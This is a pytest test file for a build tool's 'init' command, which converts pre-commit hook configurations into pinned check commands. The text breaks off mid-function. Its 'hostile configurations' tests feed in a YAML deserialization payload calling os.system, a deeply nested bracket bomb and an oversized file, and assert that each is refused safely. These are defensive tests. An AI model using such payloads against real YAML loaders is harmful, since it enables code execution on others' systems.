"""`microbuild init` on projects whose CI lint job runs pre-commit: the hooks of
.pre-commit-config.yaml become checks (pinned from `rev`), the rest are skipped with a note.

The configurations are modelled on real projects' (termcolor, attrs, black, a local-hooks one);
each test runs the real `init` on a committed tmp repository and reads the microbuild.toml it
writes. The slow test runs the generated ruff checks for real.
"""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import sys
import time
import tomllib
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from microbuild.cli.main import cli

if __package__:
    from . import realproject
else:
    import realproject

VENV = "python3 -m venv .venv"
PIP = ".venv/bin/pip install"
PYPROJECT = """\
[build-system]
requires = ["setuptools>=64"]
build-backend = "setuptools.build_meta"

[project]
name = "demo"
version = "1.0"

[project.optional-dependencies]
tests = ["pytest"]
"""
LINT_JOB = """\
on: [push, pull_request]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: pip install pre-commit
      - run: {command}
"""
ACTION_JOB = """\
on: [push, pull_request]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
      - uses: pre-commit/action@v3.0.1
"""


def make_project(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    realproject.init_repo(root)
    return root


def run_init(root: Path) -> tuple[dict[str, Any], str]:
    """The microbuild.toml `init` writes (as TOML) and its decisions (stderr)."""
    result: Result = CliRunner().invoke(cli, ["init", str(root)], catch_exceptions=False)
    assert result.exit_code == 0, f"{result.stdout}\n{result.stderr}"
    return tomllib.loads((root / "microbuild.toml").read_text()), result.stderr


def checks(raw: dict[str, Any]) -> dict[str, str]:
    return {c["name"]: c["command"] for c in raw.get("check", [])}


def hook_checks(raw: dict[str, Any]) -> dict[str, str]:
    """The checks that came from pre-commit hooks (init detects the others by itself)."""
    return {k: v for k, v in checks(raw).items() if k.startswith("pre-commit")}


def install(raw: dict[str, Any]) -> list[str]:
    """The words of the snapshot's pip install line."""
    lines = [line for line in raw["snapshot"]["setup"] if line.startswith(PIP)]
    assert len(lines) == 1, raw["snapshot"]["setup"]
    return shlex.split(lines[0])[2:]


def listed(command: str, root: Path) -> list[str]:
    """The files a file-list check hands its tool: its pipeline up to xargs, run in `root`."""
    lister = command.rpartition(" | xargs -r -d '\\n' ")[0]
    assert lister.startswith("find . "), command
    out = subprocess.run(
        ["sh", "-c", lister], cwd=root, capture_output=True, text=True, check=True
    ).stdout
    return sorted(out.split())


def project(tmp_path: Path, config: str, workflow: str = ACTION_JOB, **files: str) -> Path:
    return make_project(
        tmp_path / "demo",
        {
            ".github/workflows/ci.yml": workflow,
            ".pre-commit-config.yaml": config,
            "pyproject.toml": PYPROJECT,
            "src/demo/__init__.py": "",
            **files,
        },
    )


# ---------------------------------------------------------------------------
# realistic configurations

TERMCOLOR = """\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.15.9
    hooks:
      - id: ruff-check
        args: [--exit-non-zero-on-fix]

  - repo: https://github.com/psf/black-pre-commit-mirror
    rev: 26.3.1
    hooks:
      - id: black

  - repo: https://github.com/pre-commit/pre-commit-hooks
    rev: v6.0.0
    hooks:
      - id: check-added-large-files
      - id: check-case-conflict
      - id: check-merge-conflict
      - id: check-json
      - id: check-toml
      - id: check-yaml
      - id: debug-statements
      - id: end-of-file-fixer
      - id: forbid-submodules
      - id: trailing-whitespace

  - repo: https://github.com/python-jsonschema/check-jsonschema
    rev: 0.37.1
    hooks:
      - id: check-github-workflows

  - repo: https://github.com/rhysd/actionlint
    rev: v1.7.12
    hooks:
      - id: actionlint

  - repo: https://github.com/pre-commit/mirrors-mypy
    rev: v1.20.0
    hooks:
      - id: mypy
        args: [--strict, --pretty, --show-error-codes]
        additional_dependencies: [pytest]

  - repo: https://github.com/tox-dev/pyproject-fmt
    rev: v2.21.0
    hooks:
      - id: pyproject-fmt

  - repo: https://github.com/rbubley/mirrors-prettier
    rev: v3.8.1
    hooks:
      - id: prettier
        args: [--prose-wrap=always, --print-width=88]

  - repo: meta
    hooks:
      - id: check-hooks-apply

ci:
  autoupdate_schedule: quarterly
"""

PYTEST = """\
repos:
-   repo: https://github.com/PyCQA/autoflake
    rev: v2.0.0
    hooks:
    -   id: autoflake
        args: ["--in-place", "--remove-unused-variables", "--remove-all-unused-imports"]
        language: python
        files: \\.py$
-   repo: https://github.com/PyCQA/docformatter
    rev: v1.7.5
    hooks:
    -   id: docformatter
        args: [--in-place, --wrap-summaries=88]
-   repo: https://github.com/asottile/reorder_python_imports
    rev: v3.9.0
    hooks:
    -   id: reorder-python-imports
-   repo: https://github.com/pre-commit/pygrep-hooks
    rev: v1.9.0
    hooks:
    -   id: python-use-type-annotations
-   repo: local
    hooks:
    -   id: rst
        name: rst
        entry: rst-lint --encoding utf-8
        files: ^(RELEASING.rst|README.rst)$
        language: python
        additional_dependencies: [pygments, restructuredtext_lint]
    -   id: py-deprecated
        name: py library is deprecated
        language: pygrep
        entry: >
            (?x)\\bpy\\.(
                _code\\.|
                builtin\\.
            )
        types: [python]
"""


def test_pytest_config_fixers_with_a_check_mode_and_a_verbose_pygrep(tmp_path: Path) -> None:
    """autoflake and docformatter have --check: their --in-place goes; a `(?x)` pygrep regex
    becomes one line (grep and pygrep read it the same)."""
    root = project(tmp_path, PYTEST, **{"README.rst": "", "NOTES.rst": ""})
    raw, stderr = run_init(root)
    found = checks(raw)
    assert list(found) == [
        "pre-commit.autoflake",
        "pre-commit.docformatter",
        "pre-commit.rst",
        "pre-commit.py-deprecated",
    ]
    tail = " | xargs -r -d '\\n' "
    assert found["pre-commit.autoflake"].endswith(
        f"{tail}autoflake --check --remove-unused-variables --remove-all-unused-imports"
    )
    assert found["pre-commit.docformatter"].endswith(
        f"{tail}docformatter --check --wrap-summaries=88"
    )
    assert listed(found["pre-commit.rst"], root) == ["README.rst"]
    assert found["pre-commit.py-deprecated"].endswith(
        f"{tail}python -m pre_commit.languages.pygrep '\\bpy\\.(_code\\.|builtin\\.)'"
    )
    assert install(raw) == [
        "-e",
        ".[tests]",
        "autoflake==2.0.0",
        "docformatter==1.7.5",
        "pygments",
        "restructuredtext_lint",
        "pre-commit",
    ]
    assert "reorder-python-imports rewrites files and has no check-only mode" in stderr
    assert (
        "python-use-type-annotations: its hooks' regexes are defined in that repository" in stderr
    )


PANDAS_PATTERNS = r"""(?x)
# outdated annotation syntax
\#\ type:\ (?!ignore)

# foo._class__ instead of type(foo)
|\.__class__
|!r}
# `<type>obj` as opposed to `<type> obj`
|[a-zA-Z0-9*]>[ ]
|(?<!def)[\(\s]filter\(
"""


def test_pandas_verbose_pygrep_and_global_exclude(tmp_path: Path) -> None:
    """A `(?x)` regex with comments, escaped spaces and a class holding a space is handed to
    pygrep as one line that matches what the verbose one matches; the top-level exclude
    narrows every hook's files, ruff's too."""
    indented = "\n".join("            " + line for line in PANDAS_PATTERNS.splitlines())
    config = f"""\
exclude: ^LICENSES/|\\.(html|csv|svg)$
repos:
-   repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.1.8
    hooks:
    -   id: ruff
-   repo: local
    hooks:
    -   id: unwanted-patterns
        name: Unwanted patterns
        language: pygrep
        entry: |
{indented}
        types_or: [python, rst, cython]
"""
    root = project(tmp_path, config, **{"LICENSES/x.py": "", "src/demo/c.pyx": ""})
    raw, _ = run_init(root)
    found = checks(raw)
    assert listed(found["pre-commit.ruff"], root) == ["src/demo/__init__.py"]
    pygrep = found["pre-commit.unwanted-patterns"]
    assert listed(pygrep, root) == ["src/demo/__init__.py", "src/demo/c.pyx"]
    one_line = shlex.split(pygrep)[-1]
    assert (
        one_line == r"\#\ type:\ (?!ignore)|\.__class__|!r}|[a-zA-Z0-9*]>[ ]|(?<!def)[\(\s]filter\("
    )
    samples = [
        "x = 1  # type: int",
        "# type: ignore",
        "a.__class__",
        "f'{x!r}'",
        "<int> x",
        "<int>x",
        "cdef <int> y",
        " filter(f, xs)",
        "def filter(x):",
        "plain",
    ]
    verbose = re.compile(PANDAS_PATTERNS)
    assert [bool(verbose.search(t)) for t in samples] == [
        bool(re.search(one_line, t)) for t in samples
    ]
    assert sum(bool(verbose.search(t)) for t in samples) == 6


TOX_LINT = """\
[tox]
env_list = lint, py

[testenv]
extras = tests
commands = pytest {posargs}

[testenv:lint]
skip_install = true
deps = pre-commit
commands = pre-commit run --all-files --show-diff-on-failure
"""


def test_termcolor_config_through_tox_lint(tmp_path: Path) -> None:
    """CI runs `tox -e lint`, whose command runs pre-commit: each runnable hook is a check."""
    workflow = LINT_JOB.format(command="tox -e lint")
    root = project(tmp_path, TERMCOLOR, workflow, **{"tox.ini": TOX_LINT})
    raw, stderr = run_init(root)
    found = checks(raw)
    assert list(found) == [
        "pre-commit.ruff-check",
        "pre-commit.black",
        "pre-commit.check-json",
        "pre-commit.check-toml",
        "pre-commit.check-yaml",
        "pre-commit.debug-statements",
        "pre-commit.mypy",
    ]
    # --exit-non-zero-on-fix only means something with --fix: gone, and --no-fix added.
    assert found["pre-commit.ruff-check"] == "ruff check --no-fix --force-exclude ."
    assert found["pre-commit.black"] == "black --check ."
    assert found["pre-commit.mypy"] == "mypy --strict --pretty --show-error-codes ."
    assert found["pre-commit.check-yaml"].endswith(" | xargs -r -d '\\n' check-yaml")
    # The console script of debug-statements is not named like the hook.
    assert found["pre-commit.debug-statements"].endswith("xargs -r -d '\\n' debug-statement-hook")
    assert raw["check"][-1]["timeout_s"] == 600  # mypy: a types check
    # The tools, pinned from each hook's rev; mypy's additional dependency too.
    # (mypy's additional dependency pytest comes with the tests extra already.)
    assert install(raw) == [
        "-e",
        ".[tests]",
        "ruff==0.15.9",
        "black==26.3.1",
        "pre-commit-hooks==6.0.0",
        "mypy==1.20.0",
    ]
    assert ".pre-commit-config.yaml" in raw["snapshot"]["inputs"]
    for note in (
        "dropped pre-commit hook check-added-large-files: looks at the files git is adding; "
        "the sidecar has no .git",
        "dropped pre-commit hook check-merge-conflict: only reports while a git merge",
        "dropped pre-commit hook end-of-file-fixer: rewrites files and has no check-only mode",
        "dropped pre-commit hook check-github-workflows: unknown hook repository "
        "https://github.com/python-jsonschema/check-jsonschema (not fetched)",
        "dropped pre-commit hook actionlint: unknown hook repository",
        "dropped pre-commit hook prettier: a Node hook",
        "dropped pre-commit hook check-hooks-apply: pre-commit's own meta hook",
        "expanded through .pre-commit-config.yaml: checks pre-commit.ruff-check, ",
        "; 11 hooks skipped",
    ):
        assert note in stderr, note
    assert "pre-commit run" not in "\n".join(found.values())


ATTRS = """\
---
repos:
  - repo: https://github.com/psf/black
    rev: 20.8b1
    hooks:
      - id: black
        language_version: python3.8
        files: \\.pyi?$
        types: []

  - repo: https://github.com/asottile/seed-isort-config
    rev: v2.2.0
    hooks:
      - id: seed-isort-config

  - repo: https://github.com/pre-commit/mirrors-isort
    rev: v5.4.2
    hooks:
      - id: isort
        additional_dependencies: [toml]

  - repo: https://gitlab.com/pycqa/flake8
    rev: 3.8.3
    hooks:
      - id: flake8

  - repo: https://github.com/econchick/interrogate
    rev: 1.3.0
    hooks:
      - id: interrogate
        args: [tests]

  - repo: https://github.com/pre-commit/pre-commit-hooks
    rev: v3.2.0
    hooks:
      - id: trailing-whitespace
      - id: debug-statements
      - id: check-toml
"""


def test_attrs_config_through_the_pre_commit_action(tmp_path: Path) -> None:
    """`uses: pre-commit/action` is `pre-commit run --all-files`; a hook's files regex makes
    its tool take the file list (pre-commit's way), others take `.`."""
    root = project(
        tmp_path,
        ATTRS,
        **{
            "src/demo/types.pyi": "",
            "docs/conf.py": "",
            "notes.txt": "",
            ".venv/lib/site.py": "",
        },
    )
    raw, stderr = run_init(root)
    found = checks(raw)
    assert list(found) == [
        "pre-commit.black",
        "pre-commit.isort",
        "pre-commit.flake8",
        "pre-commit.interrogate",
        "pre-commit.debug-statements",
        "pre-commit.check-toml",
    ]
    assert found["pre-commit.isort"] == "isort --check-only ."
    assert found["pre-commit.flake8"] == "flake8"
    assert found["pre-commit.interrogate"] == "interrogate tests"
    black = found["pre-commit.black"]
    assert black.endswith(" | grep -P '\\.pyi?$' | xargs -r -d '\\n' black --check")
    # The file list: every .py/.pyi, never the virtualenv's.
    assert listed(black, root) == ["docs/conf.py", "src/demo/__init__.py", "src/demo/types.pyi"]
    assert listed(found["pre-commit.check-toml"], root) == ["microbuild.toml", "pyproject.toml"]
    assert install(raw) == [
        "-e",
        ".[tests]",
        "black==20.8b1",
        "isort==5.4.2",
        "toml",
        "flake8==3.8.3",
        "interrogate==1.3.0",
        "pre-commit-hooks==3.2.0",
    ]
    assert "dropped pre-commit hook seed-isort-config: unknown hook repository" in stderr


BLACK = """\
exclude: ^(profiling/|tests/data/)
repos:
  - repo: local
    hooks:
      - id: check-pre-commit-rev-in-example
        name: Check pre-commit rev in example
        language: python
        entry: python -m scripts.check_pre_commit_rev_in_example
        files: '(CHANGES|source_version_control)\\.md$'
        additional_dependencies:
          - beautifulsoup4>=4.14.2
          - commonmark>=0.9.1

  - repo: https://github.com/pycqa/isort
    rev: 9.0.0b1
    hooks:
      - id: isort

  - repo: https://github.com/pycqa/flake8
    rev: 7.3.0
    hooks:
      - id: flake8
        additional_dependencies:
          - flake8-bugbear
          - flake8-comprehensions
        exclude: ^src/blib2to3/

  - repo: https://github.com/pre-commit/mirrors-mypy
    rev: v2.3.0
    hooks:
      - id: mypy
        exclude: ^docs/conf.py$
        args: []
        additional_dependencies:
          - click>=8.0.0
          - uvloop>=0.15.2; sys_platform != 'win32'

          # tests
          - pytest>=7

  - repo: https://github.com/rbubley/mirrors-prettier
    rev: v3.9.5
    hooks:
      - id: prettier
        types_or: [markdown, yaml, json]

  - repo: https://github.com/pre-commit/pre-commit-hooks
    rev: v6.0.0
    hooks:
      - id: end-of-file-fixer
      - id: trailing-whitespace
"""
BLACK_MAKEFILE = """\
.PHONY: lint test

lint:
\tpre-commit run --all-files

test:
\tpytest
"""


def test_black_config_through_a_makefile_target(tmp_path: Path) -> None:
    """No CI: the Makefile's lint target runs pre-commit. A top-level exclude applies to every
    hook, so every tool is handed pre-commit's file list; local python hooks get their deps."""
    root = make_project(
        tmp_path / "black",
        {
            ".pre-commit-config.yaml": BLACK,
            "Makefile": BLACK_MAKEFILE,
            "pyproject.toml": PYPROJECT,
            "src/demo/__init__.py": "",
            "src/blib2to3/pgen.py": "",
            "tests/data/bad.py": "",
            "profiling/x.py": "",
            "docs/conf.py": "",
            "CHANGES.md": "",
            "README.md": "",
        },
    )
    raw, stderr = run_init(root)
    found = checks(raw)
    assert list(found) == [
        "pre-commit.check-pre-commit-rev-in-example",
        "pre-commit.isort",
        "pre-commit.flake8",
        "pre-commit.mypy",
        "tests",
    ]
    assert found["tests"] == "make test"
    local = found["pre-commit.check-pre-commit-rev-in-example"]
    assert local.endswith("xargs -r -d '\\n' python -m scripts.check_pre_commit_rev_in_example")
    assert listed(local, root) == ["CHANGES.md"]
    assert listed(found["pre-commit.isort"], root) == [
        "docs/conf.py",
        "src/blib2to3/pgen.py",
        "src/demo/__init__.py",
    ]
    assert listed(found["pre-commit.flake8"], root) == ["docs/conf.py", "src/demo/__init__.py"]
    mypy = found["pre-commit.mypy"]
    assert mypy.endswith("xargs -r -d '\\n' mypy")  # `args: []`: not the mirror's defaults
    assert listed(mypy, root) == ["src/blib2to3/pgen.py", "src/demo/__init__.py"]
    words = install(raw)
    assert words[words.index("beautifulsoup4>=4.14.2") :] == [
        "beautifulsoup4>=4.14.2",
        "commonmark>=0.9.1",
        "isort==9.0.0b1",
        "flake8==7.3.0",
        "flake8-bugbear",
        "flake8-comprehensions",
        "mypy==2.3.0",
        "click>=8.0.0",
        "uvloop>=0.15.2; sys_platform != 'win32'",
    ]
    # pytest>=7 is a mypy dependency, but the tests extra installs pytest already.
    assert "dropped install pytest>=7: a pre-commit hook runs pytest, which extra 'tests'" in stderr
    assert "kept    target lint: `make lint`: its recipe runs pre-commit" in stderr


LOCAL = """\
default_stages: [pre-commit]
repos:
  - repo: local
    hooks:
      - id: pylint
        name: pylint
        entry: pylint
        language: system
        types: [python]
        args: ["--rcfile=.pylintrc", "--disable=fixme"]
      - id: ruff-fix
        name: ruff (fixing)
        entry: ruff check --fix
        language: system
        pass_filenames: false
      - id: ruff-old
        name: ruff, as pydantic ran it before ruff 0.5
        entry: ruff
        args: [--fix]
        language: system
        types: [python]
      - id: unit
        name: unit tests
        entry: python -m pytest -q tests/unit
        language: system
        pass_filenames: false
        stages: [pre-push]
      - id: slow
        name: slow tests
        entry: python -m pytest -q tests/slow
        language: system
        pass_filenames: false
        stages: [manual]
      - id: no-print
        name: no print()
        entry: '\\bprint\\('
        language: pygrep
        types: [python]
      - id: bad-names
        name: changelog names
        entry: changelog files must be named NNN.(bugfix|feature).rst
        language: fail
        files: ^changelog/
        exclude: ^changelog/\\d+\\.(bugfix|feature)\\.rst$
      - id: hadolint
        name: hadolint
        entry: hadolint/hadolint:v2.12.0 hadolint
        language: docker_image
        files: Dockerfile
      - id: check-headers
        name: license headers
        entry: scripts/check_headers.py
        language: script
        pass_filenames: false
      - id: audit
        name: audit
        entry: pip-audit
        language: python
        pass_filenames: false
        additional_dependencies: [pip-audit]
"""


def test_local_hooks_through_uvx_prek(tmp_path: Path) -> None:
    root = project(tmp_path, LOCAL, LINT_JOB.format(command="uvx prek run --all-files"))
    raw, stderr = run_init(root)
    found = checks(raw)
    assert list(found) == [
        "pre-commit.pylint",
        "pre-commit.ruff-fix",
        "pre-commit.ruff-old",
        "pre-commit.no-print",
        "pre-commit.check-headers",
    ]
    pylint = found["pre-commit.pylint"]
    assert pylint.endswith("| xargs -r -d '\\n' pylint --rcfile=.pylintrc --disable=fixme")
    assert listed(pylint, root) == ["src/demo/__init__.py"]
    # A local ruff hook that fixes is run check-only, like ruff from a CI line.
    assert found["pre-commit.ruff-fix"] == "ruff check"
    assert found["pre-commit.ruff-old"].endswith("| xargs -r -d '\\n' ruff check")
    assert found["pre-commit.check-headers"] == "./scripts/check_headers.py"
    # pygrep is pre-commit's own module, run as pre-commit runs it (the package is installed).
    pygrep = found["pre-commit.no-print"]
    assert pygrep.endswith(
        "| xargs -r -d '\\n' python -m pre_commit.languages.pygrep '\\bprint\\('"
    )
    assert listed(pygrep, root) == ["src/demo/__init__.py"]
    assert "pre-commit" in install(raw)
    for note in (
        "dropped pre-commit hook unit: runs at stages pre-push, not pre-commit",
        "dropped pre-commit hook slow: runs at stages manual, not pre-commit",
        "dropped pre-commit hook bad-names: a `fail` hook",
        "dropped pre-commit hook hadolint: language docker_image",
        "dropped pre-commit hook audit: security scan",
    ):
        assert note in stderr, note
    assert "pip-audit" not in install(raw)


def test_hook_stage_and_hook_id_select_hooks(tmp_path: Path) -> None:
    """`--hook-stage manual` runs the manual hooks; `run HOOK` runs that hook alone."""
    workflow = """\
on: [push]
jobs:
  slow:
    runs-on: ubuntu-latest
    steps:
      - run: pre-commit run --hook-stage manual slow --all-files
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: SKIP=pylint pre-commit run -a
"""
    root = project(tmp_path, LOCAL, workflow)
    raw, stderr = run_init(root)
    assert list(checks(raw)) == [
        "pre-commit.ruff-fix",
        "pre-commit.ruff-old",
        "pre-commit.no-print",
        "pre-commit.check-headers",
        "pre-commit.slow",
    ]
    assert checks(raw)["pre-commit.slow"] == "python -m pytest -q tests/slow"
    assert raw["check"][-1]["timeout_s"] == 900  # a tests check
    assert "dropped pre-commit hook pylint: the CI skips it (SKIP= or --skip)" in stderr


RUFF_FORMAT_ONLY = """\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.9
    hooks: [{id: ruff-format}]
"""


@pytest.mark.parametrize(
    "command",
    [
        "pre-commit run --all-files",
        "pre-commit run -a --show-diff-on-failure --color=always",
        "uvx pre-commit run --all-files",
        "pipx run pre-commit run -a",
        "python -m pre_commit run --all-files",
        "uv run --frozen pre-commit run -a",
        "prek run --all-files",
        "cd . && pre-commit run -a",
    ],
)
def test_every_way_to_run_pre_commit(tmp_path: Path, command: str) -> None:
    root = project(tmp_path, RUFF_FORMAT_ONLY, LINT_JOB.format(command=command))
    raw, _ = run_init(root)
    assert checks(raw) == {"pre-commit.ruff-format": "ruff format --check --force-exclude ."}
    assert install(raw)[-1] == "ruff==0.6.9"
    assert "pre-commit" not in install(raw)


def test_pre_commit_run_in_a_subdirectory(tmp_path: Path) -> None:
    """`cd sub && pre-commit run` reads sub's configuration, and its checks run in sub."""
    root = project(
        tmp_path,
        "repos: []\n",
        LINT_JOB.format(command="cd backend && pre-commit run -a"),
        **{"backend/.pre-commit-config.yaml": RUFF_FORMAT_ONLY},
    )
    raw, stderr = run_init(root)
    assert checks(raw) == {
        "pre-commit.ruff-format": "cd backend && ruff format --check --force-exclude ."
    }
    assert "expanded through backend/.pre-commit-config.yaml" in stderr
    assert "backend/.pre-commit-config.yaml" in raw["snapshot"]["inputs"]


@pytest.mark.parametrize(
    "files",
    [
        {
            ".gitlab-ci.yml": "lint:\n  script:\n    - pip install pre-commit\n"
            "    - pre-commit run -a\n"
        },
        {
            "noxfile.py": "import nox\n\n@nox.session\ndef lint(session):\n"
            '    session.install("pre-commit")\n'
            '    session.run("pre-commit", "run", "--all-files")\n'
        },
        {"Makefile": "install:\n\tpip install -e .\n\nlint: install\n\t@pre-commit run -a\n"},
    ],
    ids=["gitlab", "nox", "makefile-with-prerequisites"],
)
def test_pre_commit_from_gitlab_nox_and_make(tmp_path: Path, files: dict[str, str]) -> None:
    root = make_project(
        tmp_path / "demo",
        {".pre-commit-config.yaml": RUFF_FORMAT_ONLY, "pyproject.toml": PYPROJECT, **files},
    )
    raw, _ = run_init(root)
    assert hook_checks(raw) == {"pre-commit.ruff-format": "ruff format --check --force-exclude ."}
    assert install(raw)[-1] == "ruff==0.6.9"


def test_prek_hook_ids_skip_and_a_config_run_twice(tmp_path: Path) -> None:
    """prek takes several hook ids and --skip; the same configuration run by two jobs gives
    each check and each note once."""
    workflow = """\
on: [push]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: prek run ruff-format black isort --skip black --all-files
  again:
    runs-on: ubuntu-latest
    steps:
      - run: prek run ruff-format black isort --skip=black -a
"""
    config = """\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.9
    hooks: [{id: ruff}, {id: ruff-format}]
  - repo: https://github.com/psf/black
    rev: 24.8.0
    hooks: [{id: black}]
  - repo: https://github.com/pycqa/isort
    rev: 5.13.2
    hooks: [{id: isort}]
"""
    root = project(tmp_path, config, workflow)
    raw, stderr = run_init(root)
    assert checks(raw) == {
        "pre-commit.ruff-format": "ruff format --check --force-exclude .",
        "pre-commit.isort": "isort --check-only .",
    }
    assert stderr.count("dropped pre-commit hook black: the CI skips it") == 1
    assert install(raw)[-2:] == ["ruff==0.6.9", "isort==5.13.2"]


def test_an_overridden_entry_runs_in_the_tools_environment(tmp_path: Path) -> None:
    """A known hook whose `entry` the configuration replaces runs that entry, check-only, with
    the hook's package pinned as usual."""
    config = """\
repos:
  - repo: https://github.com/pre-commit/mirrors-mypy
    rev: v1.11.2
    hooks:
      - id: mypy
        entry: mypy --strict
        pass_filenames: false
        args: [src]
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.9
    hooks:
      - id: ruff
        entry: ruff check --fix --select I
        exclude: ^src/
"""
    root = project(tmp_path, config, **{"tools/x.py": "", "tools/y.txt": ""})
    raw, _ = run_init(root)
    found = checks(raw)
    assert found["pre-commit.mypy"] == "mypy --strict src"
    ruff = found["pre-commit.ruff"]
    assert ruff.endswith("| xargs -r -d '\\n' ruff check --select I")
    assert listed(ruff, root) == ["tools/x.py"]  # the hook's types (python), minus exclude
    assert install(raw)[-2:] == ["mypy==1.11.2", "ruff==0.6.9"]


def test_ci_skip_and_the_same_hook_twice(tmp_path: Path) -> None:
    """pre-commit.ci's `skip:` names hooks that cannot run offline; two mypy hooks (one per
    directory) are two checks."""
    config = """\
ci:
  skip: [pylint]
repos:
  - repo: https://github.com/pre-commit/mirrors-mypy
    rev: v1.11.2
    hooks:
      - id: mypy
        files: ^src/
      - id: mypy
        files: ^tests/
        additional_dependencies: [types-requests]
  - repo: https://github.com/pylint-dev/pylint
    rev: v3.2.0
    hooks:
      - id: pylint
"""
    root = project(tmp_path, config, **{"tests/test_a.py": ""})
    raw, stderr = run_init(root)
    found = checks(raw)
    assert list(found) == ["pre-commit.mypy", "pre-commit.mypy-2"]
    assert listed(found["pre-commit.mypy"], root) == ["src/demo/__init__.py"]
    assert listed(found["pre-commit.mypy-2"], root) == ["tests/test_a.py"]
    assert "--ignore-missing-imports" in found["pre-commit.mypy"]  # the mirror's default args
    assert install(raw)[-2:] == ["mypy==1.11.2", "types-requests"]
    assert "dropped pre-commit hook pylint: listed in `ci: skip:`" in stderr


def test_pre_commit_ci_is_a_ci(tmp_path: Path) -> None:
    """No CI step runs pre-commit, but the file configures pre-commit.ci (`ci:`): pre-commit.ci
    runs it on every pull request, so its hooks are checks too; without `ci:` they are not."""
    config = """\
ci:
  autofix_prs: false
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.9
    hooks:
      - id: ruff-format
"""
    tests_job = "on: [push]\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: pytest\n"
    root = project(tmp_path, config, tests_job)
    raw, stderr = run_init(root)
    assert checks(raw) == {
        "pre-commit.ruff-format": "ruff format --check --force-exclude .",
        "tests": "pytest",
    }
    assert "kept    pre-commit.ci: `pre-commit run --all-files`: expanded through" in stderr
    without = project(
        tmp_path / "plain", config.replace("ci:\n  autofix_prs: false\n", ""), tests_job
    )
    assert checks(run_init(without)[0]) == {"tests": "pytest"}


def test_action_extra_args_exclude_types_and_a_foreign_mypy(tmp_path: Path) -> None:
    """The action's extra_args pick one hook; exclude_types narrows the file list; a `mypy` hook
    from a repository that is not mypy's mirror runs mypy, unpinned (its rev is not mypy's)."""
    workflow = ACTION_JOB + "        with:\n          extra_args: codespell --all-files\n"
    workflow += "  types:\n    runs-on: x\n    steps:\n      - run: pre-commit run mypy -a\n"
    config = """\
repos:
  - repo: https://github.com/codespell-project/codespell
    rev: v2.3.0
    hooks:
      - id: codespell
        exclude_types: [json, yaml]
  - repo: https://github.com/someone/mypy-hooks
    rev: v9
    hooks:
      - id: mypy
        pass_filenames: false
        args: [src]
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.9
    hooks:
      - id: ruff
"""
    root = project(tmp_path, config, workflow, **{"data.json": "{}", "ci.yml": "", "a.txt": ""})
    raw, stderr = run_init(root)
    found = checks(raw)
    assert list(found) == ["pre-commit.codespell", "pre-commit.mypy"]
    assert found["pre-commit.mypy"] == "mypy src"
    assert listed(found["pre-commit.codespell"], root) == [
        "a.txt",
        "microbuild.toml",
        "pyproject.toml",
        "src/demo/__init__.py",
    ]
    assert install(raw)[-2:] == ["codespell==2.3.0", "mypy"]
    assert (
        "dropped pin of mypy: https://github.com/someone/mypy-hooks is not mypy's own repository"
        in stderr
    )


def test_a_node_project_gets_a_venv_for_its_hooks_tools(tmp_path: Path) -> None:
    config = """\
repos:
  - repo: https://github.com/codespell-project/codespell
    rev: v2.3.0
    hooks: [{id: codespell}]
  - repo: https://github.com/pre-commit/mirrors-prettier
    rev: v3.1.0
    hooks: [{id: prettier}]
"""
    root = make_project(
        tmp_path / "web",
        {
            ".github/workflows/ci.yml": ACTION_JOB,
            ".pre-commit-config.yaml": config,
            "package.json": "{}",
            "index.js": "",
        },
    )
    raw, stderr = run_init(root)
    assert checks(raw) == {"pre-commit.codespell": "codespell"}
    assert raw["snapshot"]["setup"] == [VENV, f"{PIP} codespell==2.3.0"]
    assert "kept    setup: no Python project here, but the pre-commit hooks' tools are" in stderr
    assert "dropped pre-commit hook prettier: a Node hook" in stderr


# ---------------------------------------------------------------------------
# broken and hostile configurations


def test_malformed_yaml_is_a_note_and_the_other_checks_stay(tmp_path: Path) -> None:
    workflow = ACTION_JOB + "  tests:\n    runs-on: x\n    steps:\n      - run: pytest\n"
    root = project(tmp_path, "repos:\n  - repo: local\n    hooks: [\n", workflow)
    raw, stderr = run_init(root)
    assert list(checks(raw)) == ["tests"]
    line = next(x for x in stderr.splitlines() if x.startswith("dropped .pre-commit-config.yaml"))
    assert line.startswith(
        "dropped .pre-commit-config.yaml: .pre-commit-config.yaml:4: invalid YAML"
    )
    assert line.endswith("; no hook is a check")


@pytest.mark.parametrize(
    "text",
    ["- repo: local\n", "just a string\n", "repos: {a: 1}\n", "repos: null\n"],
)
def test_config_that_is_not_a_repos_mapping(tmp_path: Path, text: str) -> None:
    root = project(tmp_path, text, ACTION_JOB)
    raw, stderr = run_init(root)
    assert hook_checks(raw) == {}
    assert (
        "dropped .pre-commit-config.yaml: not a mapping with a `repos` list; no hook is a check"
        in stderr
    )


@pytest.mark.parametrize(
    ("text", "note"),
    [
        ("repos: " + "[" * 20000 + "]" * 20000 + "\n", "nested too deeply to read"),
        (
            'repos:\n- repo: !!python/object/apply:os.system ["touch pwned"]\n  hooks: []\n',
            ".pre-commit-config.yaml:2: invalid YAML: could not determine a constructor",
        ),
        ("repos: []\n" + "#" * (1 << 20), "larger than 1048576 bytes; not read"),
    ],
)
def test_configs_that_cannot_be_read_safely(tmp_path: Path, text: str, note: str) -> None:
    root = project(tmp_path, text)
    raw, stderr = run_init(root)
    assert hook_checks(raw) == {}
    assert f"dropped .pre-commit-config.yaml: {note}" in stderr
    assert not (root / "pwned").exists()


def test_missing_config(tmp_path: Path) -> None:
    root = make_project(
        tmp_path / "demo",
